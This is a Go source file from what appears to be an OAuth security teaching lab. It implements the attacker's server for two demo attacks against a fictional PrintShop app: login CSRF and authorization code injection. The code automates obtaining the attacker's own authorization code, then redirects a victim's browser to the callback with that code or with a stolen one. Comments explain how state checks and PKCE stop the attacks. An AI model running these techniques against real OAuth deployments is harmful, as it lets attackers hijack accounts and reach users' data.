package web

// Attack 02, login CSRF: the attacker gets an authorization code for its own account (bob at
// Accounts) for PrintShop, and does not use it. It makes Alice's browser deliver it to
// PrintShop's callback instead. If PrintShop does not check state (PRINTING_INSECURE_SKIP_STATE),
// Alice's PrintShop account ends up connected to bob's photos: whatever she uploads or prints
// goes through the attacker's account (RFC 6749 §10.12, RFC 9700 §4.7).
//
// The attacker's server plays the attacker's own browser at Accounts here, so that the code is
// kept instead of followed to PrintShop. With PKCE, the code is bound to the attacker's
// challenge, and PrintShop, which does not know the verifier, cannot redeem it: PKCE alone stops
// the attack (RFC 9700 §4.7.1). Without PKCE (AUTHSERVER_INSECURE_PKCE_OPTIONAL) it goes through.

import (
	"context"
	"crypto/sha256"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"regexp"
	"strings"

	"github.com/labstack/echo/v4"
)

// The attacker's own accounts: the demo user bob, at Accounts.
const attackerUser, attackerPassword = "bob", "builder"

// handlePrepareBait gets the attacker's own code, with or without PKCE, and keeps the callback
// URL that carries it.
func handlePrepareBait(a *attacker) echo.HandlerFunc {
	return func(c echo.Context) error {
		callback, err := a.ownCode(c.Request().Context(), c.FormValue("pkce") == "on")
		if err != nil {
			a.keep(loot{Kind: "error", Value: err.Error(), How: "preparing the login CSRF bait"})
			return c.Redirect(http.StatusSeeOther, "/")
		}
		a.mu.Lock()
		a.bait = callback
		a.mu.Unlock()
		a.keep(loot{Kind: "code", Value: callback, How: "the attacker's OWN code for PrintShop (bob's photos), kept as bait"})
		return c.Redirect(http.StatusSeeOther, "/")
	}
}

// handleBait sends the victim's browser to PrintShop's callback with the attacker's code.
func handleBait(a *attacker) echo.HandlerFunc {
	return func(c echo.Context) error {
		a.mu.Lock()
		bait := a.bait
		a.mu.Unlock()
		if bait == "" {
			return c.String(http.StatusNotFound, "No bait yet: press \"Prepare the bait\" on the attacker's page first.")
		}
		return c.Redirect(http.StatusSeeOther, bait)
	}
}

// handleInject is attack 03's last step: the attacker's own browser, signed in at PrintShop,
// delivers a stolen code to PrintShop's callback with the state of the attacker's own connect
// attempt. PrintShop redeems Alice's code for the attacker's account. The code is the one in
// the query, if any (pasted from a leak), or else the newest stolen one.
func handleInject(a *attacker) echo.HandlerFunc {
	return func(c echo.Context) error {
		code := c.QueryParam("code")
		if code == "" {
			code = a.lastCode()
		}
		if code == "" || strings.Contains(code, "://") {
			return c.String(http.StatusNotFound, "No stolen code yet: steal one first (attack 01).")
		}
		q := url.Values{"code": {code}, "state": {c.QueryParam("state")}, "iss": {a.cfg.AccountsURL}}
		return c.Redirect(http.StatusSeeOther, a.cfg.PrintShopURL+"/callback?"+q.Encode())
	}
}

var (
	csrfInput    = regexp.MustCompile(`name="csrf_token" value="([^"]+)"`)
	requestInput = regexp.MustCompile(`name="request" value="([^"]+)"`)
	scopeInput   = regexp.MustCompile(`name="scope" value="([^"]+)"`)
)

// ownCode runs the authorization code flow at Accounts as the attacker, for PrintShop's
// client_id and redirect URI, and returns the redirect back to PrintShop without following it.
func (a *attacker) ownCode(ctx context.Context, withPKCE bool) (string, error) {
	jar, _ := cookiejar.New(nil)
	browser := &http.Client{Jar: jar, Timeout: a.client.Timeout,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	q := url.Values{"response_type": {"code"}, "client_id": {"printing"}, "redirect_uri": {a.cfg.PrintShopURL + "/callback"},
		"scope": {"photos.read"}, "state": {randomString()}}
	if withPKCE {
		sum := sha256.Sum256([]byte(randomString() + randomString()))
		q.Set("code_challenge", base64.RawURLEncoding.EncodeToString(sum[:]))
		q.Set("code_challenge_method", "S256")
	}
	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, a.cfg.AccountsBackChannel+"/authorize?"+q.Encode(), nil)
	for range 10 {
		resp, err := browser.Do(req)
		if err != nil {
			return "", err
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		page := string(body)
		switch {
		case resp.StatusCode == http.StatusSeeOther || resp.StatusCode == http.StatusFound:
			next, err := resp.Request.URL.Parse(resp.Header.Get("Location"))
			if err != nil {
				return "", err
			}
			if strings.HasPrefix(next.String(), a.cfg.PrintShopURL) {
				if next.Query().Get("code") == "" {
					return "", fmt.Errorf("Accounts gave no code: %s", next.Query().Get("error_description"))
				}
				return next.String(), nil
			}
			req, _ = http.NewRequestWithContext(ctx, http.MethodGet, next.String(), nil)
		case resp.StatusCode == http.StatusOK && resp.Request.URL.Path == "/login":
			form := url.Values{"csrf_token": {match(csrfInput, page)}, "request": {match(requestInput, page)},
				"username": {attackerUser}, "password": {attackerPassword}}
			req = postForm(ctx, a.cfg.AccountsBackChannel+"/login", form)
		case resp.StatusCode == http.StatusOK && resp.Request.URL.Path == "/consent":
			form := url.Values{"csrf_token": {match(csrfInput, page)}, "request": {match(requestInput, page)}, "decision": {"allow"}}
			for _, m := range scopeInput.FindAllStringSubmatch(page, -1) {
				form.Add("scope", m[1])
			}
			req = postForm(ctx, a.cfg.AccountsBackChannel+"/consent", form)
		default:
			return "", fmt.Errorf("Accounts answered %d at %s", resp.StatusCode, resp.Request.URL.Path)
		}
	}
	return "", errors.New("the authorization at Accounts did not end within 10 steps")
}

func match(re *regexp.Regexp, page string) string {
	if m := re.FindStringSubmatch(page); m != nil {
		return m[1]
	}
	return ""
}

func postForm(ctx context.Context, target string, form url.Values) *http.Request {
	req, _ := http.NewRequestWithContext(ctx, http.MethodPost, target, strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	return req
}
